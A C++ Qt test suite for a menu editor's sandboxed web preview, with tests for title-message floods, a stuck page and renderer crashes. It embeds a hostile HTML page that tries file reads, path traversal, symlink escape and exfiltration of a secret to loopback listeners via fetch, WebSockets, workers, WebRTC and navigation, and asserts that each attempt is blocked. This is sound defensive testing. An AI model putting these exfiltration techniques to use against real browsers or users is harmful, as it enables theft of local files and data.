// The preview as a sandbox, against the real browser (offscreen): a hostile template page tries
// every way out while listeners on the loopback wait for it; a flood of title commands must not
// block the editor or flood js.log; a stuck page and a crashing renderer must not hold the
// preview. The page's legitimate parts (own script, CSS, pictures, a site folder's ../css) load.

#include "LentPrompter.h"
#include "RecordingPrompter.h"
#include "gui/common/TextConv.h"
#include "gui/common/UserSettings.h"
#include "gui/preview/PreviewController.h"
#include "gui/preview/PreviewWindow.h"
#include "gui/preview/internal/RendererWatch.h"
#include "gui/shell/MainWindow.h"
#include "gui/shell/ProjectSession.h"
#include "gui/shell/internal/StartDialog.h"
#include "model/Messages.h"

#include <QAbstractButton>
#include <QApplication>
#include <QDesktopServices>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkDatagram>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <csignal>
#include <unistd.h>

using namespace qloom;
using namespace qloom::gui;

// Records what would have gone to the desktop's URL opener.
class UrlRecorder : public QObject {
    Q_OBJECT
public:
    QList<QUrl> opened;
public Q_SLOTS:
    void open(const QUrl& url) { opened << url; }
};

class PreviewSandboxTest : public QObject {
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> top;
    RecordingPrompter boxes; // every box of the program, answered with its default
    std::unique_ptr<MainWindow> main;
    QString siteDir, projectDir, secretDir;
    QTcpServer tcp;
    QUdpSocket udp;
    int tcpConnections = 0;
    QByteArray tcpBytes;
    int udpDatagrams = 0;
    UrlRecorder recorder;

    PreviewWindow* browser() { return main->previewController()->browser(); }
    QWebEnginePage* page() { return browser()->webView()->page(); }
    // The page's error lines as a list box would show them.
    struct ErrorList {
        const ScriptErrorLog& log;
        QString toPlainText() const { return toQ(log.text()); }
        int blockCount() const { return int(log.size()); }
    };
    ErrorList errorList() { return {main->previewController()->scriptErrors()}; }
    QAbstractButton* updateButton() {
        return main->findChild<QAbstractButton*>(QStringLiteral("updatePreviewButton"));
    }

    static void writeFile(const QString& path, const QByteArray& bytes) {
        QFile file(path);
        QVERIFY2(file.open(QIODevice::WriteOnly), qPrintable(path));
        file.write(bytes);
    }

    QVariant js(const QString& code, int timeoutMs = 5000) {
        QVariant result;
        bool done = false;
        page()->runJavaScript(code, [&](const QVariant& value) {
            result = value;
            done = true;
        });
        if (!QTest::qWaitFor([&] { return done; }, timeoutMs))
            qWarning("script did not answer: %s", qPrintable(code));
        return result;
    }

    bool waitForDocument(const std::function<void()>& start, int timeoutMs = 10000) {
        QSignalSpy completed(browser(), &PreviewWindow::documentCompleted);
        start();
        return completed.wait(timeoutMs);
    }

    void openProject() {
        main->session()->projectForTest().settings.projectFolder = fromQ(projectDir);
        (void)AddMenu(main->session()->projectForTest());
        main->session()->projectForTest().selected = 0;
        Q_EMIT main->session()->projectReplaced(); // the editor shows the selected menu
        QVERIFY(waitForDocument([&] { main->refreshPreview(); }));
    }

    QByteArray hostilePage() const {
        const QByteArray tcpPort = QByteArray::number(tcp.serverPort());
        const QByteArray udpPort = QByteArray::number(udp.localPort());
        const QByteArray secret = QUrl::fromLocalFile(secretDir + QStringLiteral("/secret.txt"))
                                      .toString(QUrl::FullyEncoded)
                                      .toUtf8();
        QByteArray html = R"HTML(<html><head><title>hostile</title>
<link rel="stylesheet" href="own.css">
<link rel="stylesheet" href="../css/site.css">
<script src="own.js"></script>
</head><body>
<img id="pic" src="pic.png">
<div id="cap" style="position:absolute;left:0;top:0;width:100px;height:40px"
  onmousedown="location.href='http://127.0.0.1:TCP/nav?d=' + encodeURIComponent(window.stolen || 'x')">web</div>
<div id="ssh" style="position:absolute;left:200px;top:0;width:100px;height:40px"
  onmousedown="location.href='ssh://127.0.0.1:TCP/?d=secret'">ssh</div>
<script>
var results = {};
var pending = 0;
function settle(key, promise) {
  pending++;
  promise.then(function (text) { results[key] = 'read:' + text; },
               function () { results[key] = 'blocked'; })
         .then(function () { pending--; });
}
function readText(url) { return fetch(url).then(function (r) { return r.text(); }); }
function xhrText(url) {
  return new Promise(function (resolve, reject) {
    var x = new XMLHttpRequest();
    x.open('GET', url);
    x.onload = function () { resolve(x.responseText); };
    x.onerror = reject;
    try { x.send(); } catch (e) { reject(e); }
  });
}
settle('fetchSecret', readText('SECRET'));
settle('xhrSecret', xhrText('SECRET'));
settle('dotdot', readText('../../secret/secret.txt'));
settle('symlink', readText('escape/secret.txt'));
settle('listRoot', readText('file:///'));
settle('listHome', readText('../../'));
settle('http', readText('http://127.0.0.1:TCP/fetch'));
var frame = document.createElement('iframe');
frame.src = 'SECRET';
document.body.appendChild(frame);
new Image().src = 'http://127.0.0.1:TCP/img';
try { new WebSocket('ws://127.0.0.1:TCP/page'); } catch (e) {}
try { new WebSocket('wss://127.0.0.1:TCP/page'); } catch (e) {}
var workerCode = "try { new WebSocket('ws://127.0.0.1:TCP/worker'); } catch (e) {}" +
  "fetch('http://127.0.0.1:TCP/worker').catch(function () {});" +
  "fetch('SECRET').then(function (r) { return r.text(); }).then(function (t) {" +
  " try { new WebSocket('ws://127.0.0.1:TCP/leak?' + t); } catch (e) {} }, function () {});";
var workerUrl = URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'}));
try { new Worker(workerUrl); } catch (e) {}
results.sharedWorker = typeof SharedWorker;
try { new SharedWorker(workerUrl); } catch (e) {}
try {
  var pc = new RTCPeerConnection({iceServers: [
    {urls: 'stun:127.0.0.1:UDP'},
    {urls: 'turn:127.0.0.1:UDP?transport=udp', username: 'u', credential: 'c'}]});
  pc.createDataChannel('d');
  pc.onicegatheringstatechange = function () { results.rtc = pc.iceGatheringState; };
  pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
} catch (e) { results.rtc = 'none'; }
</script></body></html>)HTML";
        html.replace("SECRET", secret);
        html.replace("TCP", tcpPort);
        html.replace("UDP", udpPort);
        return html;
    }

    QJsonObject pageResults() {
        return QJsonDocument::fromJson(js(QStringLiteral("JSON.stringify(results)")).toByteArray())
            .object();
    }

    void expectNothingLeft() {
        QCOMPARE(tcpConnections, 0);
        QCOMPARE(udpDatagrams, 0);
        QVERIFY2(!tcpBytes.contains("TOPSECRET"), tcpBytes.constData());
    }

private Q_SLOTS:
    void initTestCase() {
        QDesktopServices::setUrlHandler(QStringLiteral("http"), &recorder, "open");
        QDesktopServices::setUrlHandler(QStringLiteral("https"), &recorder, "open");
        QDesktopServices::setUrlHandler(QStringLiteral("ssh"), &recorder, "open");
        QVERIFY(tcp.listen(QHostAddress(QStringLiteral("127.0.0.1"))));
        connect(&tcp, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = tcp.nextPendingConnection()) {
                ++tcpConnections;
                connect(socket, &QTcpSocket::readyRead, this,
                        [this, socket] { tcpBytes += socket->readAll(); });
            }
        });
        QVERIFY(udp.bind(QHostAddress(QStringLiteral("127.0.0.1")), 0));
        connect(&udp, &QUdpSocket::readyRead, this, [this] {
            while (udp.hasPendingDatagrams()) {
                udp.receiveDatagram();
                ++udpDatagrams;
            }
        });
    }
    void cleanupTestCase() {
        QDesktopServices::unsetUrlHandler(QStringLiteral("http"));
        QDesktopServices::unsetUrlHandler(QStringLiteral("https"));
        QDesktopServices::unsetUrlHandler(QStringLiteral("ssh"));
    }

    void init() {
        top = std::make_unique<QTemporaryDir>();
        const QDir root(top->path());
        QVERIFY(root.mkpath(QStringLiteral("site/project")) &&
                root.mkpath(QStringLiteral("site/css")) && root.mkpath(QStringLiteral("secret")) &&
                root.mkpath(QStringLiteral("program")));
        siteDir = root.filePath(QStringLiteral("site"));
        projectDir = root.filePath(QStringLiteral("site/project"));
        secretDir = root.filePath(QStringLiteral("secret"));
        writeFile(secretDir + QStringLiteral("/secret.txt"), "TOPSECRET");
        tcpConnections = 0;
        udpDatagrams = 0;
        tcpBytes.clear();
        recorder.opened.clear();
        boxes.reset();
        main = std::make_unique<MainWindow>(root.filePath(QStringLiteral("program/")));
        main->session()->setPrompter(std::make_unique<LentPrompter>(boxes));
        main->show();
        main->createOtherWindows();
        main->previewController()->setScriptErrorLogFolder(
            root.filePath(QStringLiteral("program/")));
        // Straight to the editor, as after "New Menu Project"; each test sets up its project.
        main->startDialog()->hide();
        main->setEnabled(true);
    }
    void cleanup() {
        main.reset();
        top.reset();
    }

    void hostilePageFindsNoWayOutWhileItsOwnPartsLoad() {
        QVERIFY(QFile::link(secretDir, projectDir + QStringLiteral("/escape")));
        writeFile(projectDir + QStringLiteral("/own.js"), "window.ownScript = 1;");
        writeFile(projectDir + QStringLiteral("/own.css"), "body { background: rgb(1, 2, 3); }");
        writeFile(siteDir + QStringLiteral("/css/site.css"), "#cap { color: rgb(4, 5, 6); }");
        QImage picture(3, 2, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QVERIFY(picture.save(projectDir + QStringLiteral("/pic.png")));
        writeFile(projectDir + QStringLiteral("/Temp.html"), hostilePage());

        for (const bool withSiteFolder : {false, true}) {
            QVERIFY(UserSettings::setValue(UserSettings::siteFolderKey(projectDir),
                                           withSiteFolder ? siteDir : QString())
                        .ok);
            if (withSiteFolder) {
                QVERIFY(waitForDocument([&] { updateButton()->click(); }));
            } else {
                openProject();
            }
            QCOMPARE(QDir(browser()->allowedRoot()), QDir(withSiteFolder ? siteDir : projectDir));
            QTRY_VERIFY_WITH_TIMEOUT(
                js(QStringLiteral("pending === 0 && results.http !== undefined")).toBool(), 10000);
            // WebRTC gets its chance to gather candidates (and send STUN) before the verdict.
            QTRY_VERIFY_WITH_TIMEOUT(
                js(QStringLiteral("results.rtc === 'complete' || results.rtc === 'none'")).toBool(),
                10000);
            QTest::qWait(300);
            const QJsonObject results = pageResults();
            for (const char* key :
                 {"fetchSecret", "xhrSecret", "dotdot", "symlink", "listRoot", "listHome", "http"})
                QCOMPARE(results.value(QLatin1String(key)).toString(), QStringLiteral("blocked"));
            QCOMPARE(results.value(QStringLiteral("sharedWorker")).toString(),
                     QStringLiteral("undefined"));
            QVERIFY(!js(QStringLiteral("var d = frame.contentDocument;"
                                       "d && d.body ? d.body.innerText : ''"))
                         .toString()
                         .contains(QStringLiteral("TOPSECRET")));
            expectNothingLeft();

            // The page's own parts, and the site folder's CSS only when it is set.
            QCOMPARE(js(QStringLiteral("window.ownScript")).toInt(), 1);
            QCOMPARE(
                js(QStringLiteral("getComputedStyle(document.body).backgroundColor")).toString(),
                QStringLiteral("rgb(1, 2, 3)"));
            QTRY_COMPARE(js(QStringLiteral("document.getElementById('pic').naturalWidth")).toInt(),
                         3);
            QCOMPARE(js(QStringLiteral("getComputedStyle(document.getElementById('cap')).color"))
                         .toString(),
                     withSiteFolder ? QStringLiteral("rgb(4, 5, 6)")
                                    : QStringLiteral("rgb(0, 0, 0)"));
        }

        // Pressing a caption that navigates away with data: the user is asked, with the whole
        // address, and "No" (the default) goes nowhere.
        js(QStringLiteral("window.stolen = 'abc'; 0"));
        QWidget* proxy = browser()->webView()->focusProxy();
        QVERIFY(proxy);
        QTest::mouseClick(proxy, Qt::LeftButton, {}, QPoint(20, 20));
        const QString expectedUrl =
            QStringLiteral("http://127.0.0.1:%1/nav?d=abc").arg(tcp.serverPort());
        QTRY_COMPARE(boxes.all.size(), 1);
        QVERIFY2(boxes.all.at(0).contains(expectedUrl), qPrintable(boxes.all.at(0)));
        QTest::mouseClick(proxy, Qt::LeftButton, {}, QPoint(220, 20)); // ssh://
        QTest::qWait(500);
        QVERIFY(recorder.opened.isEmpty());
        QCOMPARE(boxes.all.size(), 1);
        QVERIFY(browser()->webView()->url().isLocalFile());
        // "Yes" hands the address to the desktop's browser, not to the preview.
        boxes.answers << QMessageBox::Yes;
        QTest::mouseClick(proxy, Qt::LeftButton, {}, QPoint(20, 20));
        QTRY_COMPARE(recorder.opened.size(), 1);
        QCOMPARE(recorder.opened.at(0), QUrl(expectedUrl));
        // A script's own navigation, without the user's press, is refused without a question.
        QTest::qWait(1100);
        js(QStringLiteral("location.href = 'http://127.0.0.1:%1/quiet'; 0").arg(tcp.serverPort()));
        QTest::qWait(300);
        QCOMPARE(boxes.all.size(), 2);
        expectNothingLeft();
        QVERIFY(UserSettings::setValue(UserSettings::siteFolderKey(projectDir), QString()).ok);
    }

    void titleFloodKeepsTheEditorResponsiveAndTheLogBounded() {
        openProject();
        QElapsedTimer clock;
        clock.start();
        // Malformed selections and moves, and errors, as fast as the page can set titles. (The
        // browser hands titles over at its own pace, about 50 a second here; the rest waits.)
        js(QStringLiteral("window.sent = 0; (function burst() {"
                          "  for (var i = 0; i < 20; i++) {"
                          "    var n = ++window.sent;"
                          "    document.title = n % 3 == 0 ? '!qLoomIDE:ySetSel(x' + n + ')'"
                          "      : n % 3 == 1 ? '!qLoomIDE:ERROR(flood' + n + '@u@1)'"
                          "      : '!qLoomIDE:docMouseMove(0,' + n + ',q)';"
                          "  }"
                          "  if (window.sent < 60) setTimeout(burst, 0);"
                          "  else document.title = '!qLoomIDE:ERROR(floodlast@u@1)';"
                          "})(); 0"));
        qint64 worstLatency = 0;
        int samples = 0;
        while (!errorList().toPlainText().endsWith(QStringLiteral("floodlast@u@1)"))) {
            QVERIFY2(clock.elapsed() < 60000, "the flood did not arrive");
            QElapsedTimer posted;
            posted.start();
            bool handled = false;
            QMetaObject::invokeMethod(
                main.get(), [&] { handled = true; }, Qt::QueuedConnection);
            QVERIFY(QTest::qWaitFor([&] { return handled; }, 2000));
            worstLatency = qMax(worstLatency, posted.elapsed());
            ++samples;
            QVERIFY(!QApplication::activeModalWidget());
            QTest::qWait(20);
        }
        // Faster than any browser delivers: the excess is dropped and counted.
        for (int round = 0; round < 2; ++round) {
            if (round > 0)
                QTest::qWait(1000); // the next second admits another hundred
            for (int i = 1; i <= 1000; ++i)
                main->previewController()->receiveTitle(
                    QStringLiteral("!qLoomIDE:ERROR(direct%1@u@1)").arg(i));
            QVERIFY(!errorList().toPlainText().contains(QStringLiteral("direct1000@")));
            main->previewController()->flushScriptErrorLog();
        }
        const qint64 seconds = clock.elapsed() / 1000 + 1;
        qInfo("flood: %d samples, worst latency %lld ms, %lld bytes written to js.log in %lld s",
              samples, worstLatency, main->previewController()->scriptErrorLogBytes(), seconds);
        QVERIFY2(worstLatency < 200, qPrintable(QString::number(worstLatency)));
        QVERIFY(boxes.all.isEmpty());

        const QStringList list = errorList().toPlainText().split(QLatin1Char('\n'));
        QCOMPARE(list.size(), 200);
        const QString dropped = list.last();
        QVERIFY2(dropped.startsWith(QStringLiteral("qLoom: ")) &&
                     dropped.section(QLatin1Char(' '), 1, 1).toInt() >= 900,
                 qPrintable(dropped));
        QVERIFY(list.at(list.size() - 2).startsWith(QStringLiteral("!qLoomIDE:ERROR(direct")));
        QFile log(QDir(top->path()).filePath(QStringLiteral("program/js.log")));
        QVERIFY(log.open(QIODevice::ReadOnly));
        QCOMPARE(QString::fromUtf8(log.readAll()),
                 list.join(QStringLiteral("\r\n")) + QStringLiteral("\r\n"));
        // Lines are shorter than 80 bytes; js.log is rewritten at most once a second (plus the
        // flush above), with at most 200 lines each time.
        QVERIFY(main->previewController()->scriptErrorLogBytes() <= (seconds + 1) * 200 * 80);
    }

    void stuckPageGivesWayToTheFixedTemplate() {
        // The list belongs to this window: the flood of the test before left nothing in it, so
        // the note below is its first line, not one that pushes another out.
        QCOMPARE(main->previewController()->scriptErrors().size(), size_t(0));
        writeFile(projectDir + QStringLiteral("/Temp.html"),
                  "<html><body><script>for (;;) {}</script></body></html>");
        main->session()->projectForTest().settings.projectFolder = fromQ(projectDir);
        (void)AddMenu(main->session()->projectForTest());
        main->refreshPreview();
        QTest::qWait(800); // the loop is running
        writeFile(projectDir + QStringLiteral("/Temp.html"),
                  "<html><head><title>fixed</title></head><body>fixed</body></html>");
        QElapsedTimer clock;
        clock.start();
        QSignalSpy completed(browser(), &PreviewWindow::documentCompleted);
        updateButton()->click();
        QTRY_VERIFY_WITH_TIMEOUT(!completed.isEmpty() && page()->title() == QStringLiteral("fixed"),
                                 5000);
        qInfo("fixed page shown %lld ms after Update Preview", clock.elapsed());
        QVERIFY(errorList().toPlainText().contains(toQ(msg::kPreviewNotAnswering)));
        QVERIFY(!browser()->backToPreviewButton()->isVisible());
    }

    void crashingRendererIsReloadedAtMostOncePerInterval() {
        openProject();
        constexpr int kInterval = 2500;
        browser()->rendererWatch()->setReloadInterval(kInterval);
        auto killRenderer = [&] {
            const qint64 pid = page()->renderProcessPid();
            QVERIFY(pid > 0);
            QSignalSpy ended(page(), &QWebEnginePage::renderProcessTerminated);
            QCOMPARE(::kill(pid_t(pid), SIGKILL), 0);
            QVERIFY(ended.wait(5000));
        };
        // The first crash is reloaded.
        QSignalSpy started(page(), &QWebEnginePage::loadStarted);
        killRenderer();
        QTRY_VERIFY_WITH_TIMEOUT(started.size() == 1 && !page()->isLoading(), 5000);
        QCOMPARE(PreviewWindow::withoutLoadToken(page()->url()),
                 QUrl::fromLocalFile(projectDir + QStringLiteral("/Temp.html")));
        // The second, within the interval, is not: the preview stays blank and says why.
        killRenderer();
        QTRY_COMPARE(page()->url(), QUrl(QStringLiteral("about:blank")));
        QTest::qWait(500);
        QCOMPARE(page()->url(), QUrl(QStringLiteral("about:blank")));
        QCOMPARE(errorList().toPlainText().count(toQ(msg::kPreviewKeepsCrashing)), 1);
        // Update Preview brings the page back.
        QVERIFY(waitForDocument([&] { updateButton()->click(); }));
        QCOMPARE(PreviewWindow::withoutLoadToken(page()->url()),
                 QUrl::fromLocalFile(projectDir + QStringLiteral("/Temp.html")));
        // Past the interval a crash is reloaded again.
        QTest::qWait(kInterval);
        started.clear();
        killRenderer();
        QTRY_VERIFY_WITH_TIMEOUT(started.size() == 1 && !page()->isLoading(), 5000);
        QCOMPARE(PreviewWindow::withoutLoadToken(page()->url()),
                 QUrl::fromLocalFile(projectDir + QStringLiteral("/Temp.html")));

        // A renderer above the memory ceiling is ended the same way.
        QTest::qWait(kInterval);
        QSignalSpy ended(page(), &QWebEnginePage::renderProcessTerminated);
        browser()->rendererWatch()->setMemoryCeiling(1024 * 1024);
        QVERIFY(ended.wait(5000));
        browser()->rendererWatch()->setMemoryCeiling(RendererWatch::kMemoryCeilingBytes);
        QVERIFY(
            errorList().toPlainText().contains(toQ(msg::Format(msg::kPreviewTooMuchMemory, "1"))));
        QTRY_VERIFY_WITH_TIMEOUT(!page()->isLoading() && page()->url().isLocalFile(), 5000);
    }
};

int main(int argc, char* argv[]) {
    if (geteuid() == 0)
        qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    // The site folder goes into the user's settings: keep the real ones out of reach.
    QTemporaryDir config;
    qputenv("XDG_CONFIG_HOME", config.path().toLocal8Bit());
    PreviewWindow::prepareProcess();
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    PreviewSandboxTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "PreviewSandboxTest.moc"
